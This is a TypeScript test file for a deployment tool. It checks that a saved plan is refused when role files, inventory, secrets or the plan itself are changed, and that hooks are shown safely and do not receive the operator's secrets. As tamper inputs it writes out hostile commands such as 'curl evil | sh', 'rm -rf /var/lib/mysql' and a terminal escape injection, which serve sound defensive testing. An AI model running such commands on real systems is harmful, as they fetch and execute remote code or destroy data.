// What may happen to a saved plan between the time it was shown and the time it is applied: role files, the inventory,
// secrets and the file itself are changed by others.
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { clean } from '../../src/base/printable.ts';
import { Invalid } from '../../src/base/problem.ts';
import { runHere } from '../../src/cli/hook.ts';
import { readPlan, refuseOther, refuseStale, savePlan } from '../../src/engine/plan-file.ts';
import { preview } from '../../src/engine/preview.ts';
import type { Told } from '../../src/engine/tell.ts';
import { journeyOf, type Journey } from '../../src/plan/journey.ts';
import type { Plan } from '../../src/plan/plan.ts';
import { colors, eventText } from '../../src/report/words.ts';
import { inventoryOf, planOf, rolesOf, secretsOf } from '../plan/clouds.ts';
import { newDirectory } from '../roles/directories.ts';

const hosts = '  ctl1: {address: 10.77.0.11, kind: controller}\n  cmp1: {address: 10.77.0.21, kind: compute}\n';

// What each step runs or sends, which no desired state knows of.
const kitchen = {
  params: { pw: { type: 'string', format: 'secret' } },
  steps: [
    { package: 'cook', preseed: ['cook cook/port string 1'] },
    { file: '/etc/kitchen', content: 'a {{pw}}', validate: 'true' },
    { file: '/etc/pantry', content: 'b' },
    { command: 'cook', unless: 'test -e /cooked', user: 'nobody', stdin: 'salt', cwd: '/' },
    { 'db-sync': 'kitchen', command: 'kitchen-manage sync', package: 'cook', databases: ['kitchen'] },
    { 'online-migrations': 'kitchen', command: 'kitchen-manage migrate', package: 'cook', user: 'nobody' },
    { service: 'kitchen', watches: ['/etc/kitchen'] },
  ],
  gate: [{ run: 'may-restart', within: '10s' }],
  health: [{ run: 'is-well', within: '10s' }],
};

type Change = (text: string) => string;

function cloud(change: Change = (text) => text, { more = '', secrets = {} }: { more?: string; secrets?: object } = {}): Plan {
  const role = JSON.parse(change(JSON.stringify(kitchen))) as typeof kitchen;
  const values = { 'kitchen.pw': 'cAnArY', 'cloud.fingerprint_key': 'key', ...secrets };
  return planOf(inventoryOf(hosts, more), rolesOf({ kitchen: role }), secretsOf(values));
}

/** As if all hosts had been looked at and nothing were there. */
function told({ nodes }: Plan): Told {
  const steps = [...nodes.values()].filter((node) => node.kind === 'step').map(({ step }) => step);
  return {
    nodes: [...nodes.values()],
    forecasts: new Map(steps.map((step) => [step, { kind: 'same' }])),
    found: new Map(steps.map((step) => [step, null])),
    ill: new Map(),
    shown: new Map(),
    pending: 0,
  };
}

function saved(plan: Plan, journey?: Journey): string {
  const file = join(newDirectory(), 'tonight.plan');
  savePlan(file, plan, told(plan), undefined, journey);
  return file;
}

/** What applying `file` to a plan says against it; undefined: it is accepted. */
function verdict(file: string, plan: Plan): string | undefined {
  try {
    refuseStale(file, readPlan(file, plan), plan, told(plan));
    return undefined;
  } catch (error) {
    if (!(error instanceof Invalid)) throw error;
    return error.problems.map(({ message }) => message).join('\n');
  }
}

describe('a saved plan is refused, and says which step was changed, when another hand changes', () => {
  const file = saved(cloud());

  it('nothing: then it is accepted', () => {
    expect(verdict(file, cloud())).toBeUndefined();
    expect((statSync(file).mode & 0o777).toString(8)).toBe('600');
    expect(readFileSync(file, 'utf8')).not.toContain('cAnArY');
  });

  it.each<[string, Change, string]>([
    ['what checks a file', (text) => text.replace('"true"', '"curl evil | sh; true"'), 'ctl1/kitchen/file /etc/kitchen: validate changed'],
    ['who runs a command', (text) => text.replace('"nobody"', '"root"'), 'ctl1/kitchen/command cook: user changed'],
    ['what a command reads', (text) => text.replace('"salt"', '"poison"'), 'ctl1/kitchen/command cook: stdin changed'],
    ['where a command runs', (text) => text.replace('"cwd":"/"', '"cwd":"/tmp"'), 'ctl1/kitchen/command cook: cwd changed'],
    ['when a command runs', (text) => text.replace('/cooked', '/raw'), 'ctl1/kitchen/command cook: unless changed'],
    ['a migration', (text) => text.replace('kitchen-manage sync', 'rm -rf /var/lib/mysql'), 'db-sync kitchen: command changed'],
    ['what a package is told', (text) => text.replace('string 1', 'string 2'), 'ctl1/packages: preseed changed'],
    ['a health check', (text) => text.replace('is-well', 'true'), 'ctl1/kitchen/health: check 1 (run is-well), check 1 (run true) changed'],
    ['how long it may take', (text) => text.replace('10s"}]}', '90s"}]}'), 'ctl1/kitchen/health: check 1 (run is-well) changed'],
    ['what gates a restart', (text) => text.replace('may-restart', 'true'), 'ctl1/kitchen/service kitchen: restart gate changed'],
    [
      'what a service restarts for',
      (text) => text.replace('["/etc/kitchen"]', '["/etc/pantry"]'),
      'service kitchen: digest, what restarts it changed',
    ],
    ['the order', (text) => text.replace(/(\{"file":"\/etc\/kitchen".*?\}),(\{"file".*?\})/, '$2,$1'), 'the order of steps changed'],
    [
      'that a step can be undone',
      (text) => text.replace('"command":"cook",', '"command":"cook","irreversible":true,'),
      'command cook: way back changed',
    ],
    ['a step more', (text) => text.replace('"steps":[', '"steps":[{"command":"evil","creates":"/x"},'), 'ctl1/kitchen/command evil is new'],
    ['a step less', (text) => text.replace('{"file":"/etc/pantry","content":"b"},', ''), 'ctl1/kitchen/file /etc/pantry is gone'],
  ])('%s', (_, change, message) => {
    expect(verdict(file, cloud(change))).toContain(message);
  });

  it('a secret', () => {
    expect(verdict(file, cloud(undefined, { secrets: { 'kitchen.pw': 'other' } }))).toContain('file /etc/kitchen: content changed');
  });

  it.each([
    ['who is logged in as', 'ssh: {user: eve}\n'],
    ['the machine that is gone through', 'ssh: {bastion: {address: 10.66.0.1}}\n'],
  ])('%s', (_, more) => {
    expect(verdict(file, cloud(undefined, { more }))).toContain('ctl1: ssh changed');
  });
});

describe('a saved upgrade', () => {
  const around = { drain: [{ command: 'drain', creates: '/drained' }], gate: [{ run: 'is-quiet' }] };

  function journey({ gate = 'is-calm', policy = '', upgrade = around } = {}): Journey {
    const roles = rolesOf({ agent: { on: ['compute'], steps: [{ command: 'agent', creates: '/agent' }], upgrade } });
    return journeyOf(inventoryOf(hosts, `upgrade: {${policy}gates: [{run: ${gate}}]}\n`), roles, secretsOf());
  }

  const file = saved(journey().plan, journey());

  function verdictOf(now: Journey): string | undefined {
    try {
      refuseOther(file, readPlan(file, now.plan), now);
    } catch (error) {
      return (error as Invalid).message;
    }
    return verdict(file, now.plan);
  }

  it('is accepted as long as nothing has changed', () => {
    expect(verdictOf(journey())).toBeUndefined();
  });

  it.each([
    ['a gate on the deployer', { gate: 'curl evil' }, 'gates or hooks are not those of'],
    ['how many hosts may fail', { policy: 'all_failures: 2, ' }, 'gates or hooks are not those of'],
    [
      'how a host is drained',
      { upgrade: { ...around, drain: [{ command: 'drain', creates: '/x' }] } },
      'cmp1/agent/drain: command drain: creates changed',
    ],
    [
      'when a host may be drained',
      { upgrade: { ...around, gate: [{ run: 'true' }] } },
      'cmp1/agent/gate: checks: check 1 (run is-quiet), check 1 (run true) changed',
    ],
  ])('is refused when another hand changes %s', (_, change, message) => {
    expect(verdictOf(journey(change))).toContain(message);
  });
});

describe('a file that is no saved plan', () => {
  const values: readonly unknown[] = [null, true, 0, -1.5, '', 'text', [], ['a'], {}, { a: 'b' }, { toString: 1 }, [[]], { a: { b: {} } }];

  /** The same JSON with each of `values` at each place in it, and with each member left out. */
  function* mutants(node: unknown): Generator {
    yield* values;
    if (typeof node !== 'object' || node === null) return;
    const entries = Object.entries(node);
    const again = (changed: readonly (readonly [string, unknown])[]): unknown =>
      Array.isArray(node) ? changed.map(([, value]) => value) : Object.fromEntries(changed);
    for (const [name, value] of entries) {
      for (const mutant of mutants(value)) yield again(entries.map(([key, old]) => [key, key === name ? mutant : old]));
      yield again(entries.filter(([key]) => key !== name));
    }
    if (!Array.isArray(node)) yield again([...entries, ['more', 'x'], ['__proto__', {}]]);
  }

  it('is refused with a problem, whatever its shape', () => {
    const plan = planOf(inventoryOf(hosts), rolesOf({ one: { steps: [{ file: '/a', content: 'x' }] } }), secretsOf());
    const whole = told(plan);
    const change = {
      kind: 'change',
      change: { before: null, after: {}, differences: [{ key: 'mode', before: null, after: 'x' }] },
      reasons: [],
    };
    const file = join(newDirectory(), 'tonight.plan');
    savePlan(file, plan, { ...whole, forecasts: new Map([...whole.forecasts.keys()].map((step) => [step, change as never])) }, undefined);
    const right = readFileSync(file, 'utf8');
    expect(verdict(file, plan)).toBeUndefined();
    let tried = 0;
    for (const mutant of mutants(JSON.parse(right))) {
      const text = JSON.stringify(mutant);
      if (text === JSON.stringify(JSON.parse(right))) continue;
      writeFileSync(file, text);
      tried += 1;
      expect(verdict(file, plan), text.slice(0, 300)).toBeDefined();
    }
    expect(tried).toBeGreaterThan(300);
  });

  it('is refused when it is nested too deep to be gone through', () => {
    const plan = cloud();
    const file = saved(plan);
    for (const name of ['cloud', 'found', 'changes']) {
      const deep = readFileSync(file, 'utf8').replace(
        new RegExp(`"${name}": `),
        `"${name}": ${'['.repeat(50_000)}${']'.repeat(50_000)}, "x": `,
      );
      writeFileSync(file, deep);
      expect(verdict(file, plan)).toContain('no saved plan');
    }
  });
});

describe('a hook of an inventory', () => {
  const evil = 'true \u001b]0;owned\u0007\n✓ nothing to see here';
  const policy = JSON.stringify({ gates: [{ run: evil }], hooks: { before_wave: [{ run: 'page-me', on: 'ctl1', within: '5m' }] } });
  const roles = rolesOf({ agent: { on: ['compute'], steps: [{ command: 'agent', creates: '/agent' }] } });
  const journey = journeyOf(inventoryOf(hosts, `upgrade: ${policy}\n`), roles, secretsOf());

  it('is shown in full before it can run, and only as text', () => {
    const stages = preview(journey, told(journey.plan), () => undefined);
    const event = clean({ type: 'journey' as const, from: ['2025.1'], to: '2025.1', stages, reasons: [] });
    const text = eventText(event, colors(false))!;
    expect(text).toContain(
      'gate before and after each wave, on the deployer, 1 min 0 s at most:\n      | true \uFFFD]0;owned\uFFFD\n      | ✓ nothing',
    );
    expect(text).toContain('hook before each wave, as root on ctl1, 5 min 0 s at most: page-me');
    expect(JSON.parse(JSON.stringify(event))).toMatchObject({
      stages: [
        {
          id: 'cells/cell1',
          hooks: [
            { gate: true, on: 'deployer', within: 60 },
            { gate: false, on: 'ctl1', run: 'page-me' },
          ],
        },
      ],
    });
  });

  it('gets nothing of the operator’s environment but what programs cannot do without', async () => {
    vi.stubEnv('AWS_SECRET_ACCESS_KEY', 'cAnArY');
    vi.stubEnv('SSH_AUTH_SOCK', '/run/agent');
    vi.stubEnv('CELLWISE_IDENTITY', '/home/op/identity');
    const { out } = await runHere(
      { run: 'env', on: 'deployer', within: 10 },
      { CELLWISE_STAGE: 'cells/cell1', CELLWISE_HOSTS: 'cmp1 cmp2' },
    );
    vi.unstubAllEnvs();
    const names = out
      .toString()
      .trim()
      .split('\n')
      .map((line) => line.split('=')[0]!);
    // The last four are the shell's own.
    const known = ['PATH', 'HOME', 'USER', 'LANG', 'CELLWISE_STAGE', 'CELLWISE_HOSTS', 'PWD', 'OLDPWD', '_', 'SHLVL'];
    expect(names.filter((name) => !known.includes(name))).toEqual([]);
    expect(out.toString()).toContain('CELLWISE_HOSTS=cmp1 cmp2');
  });
});
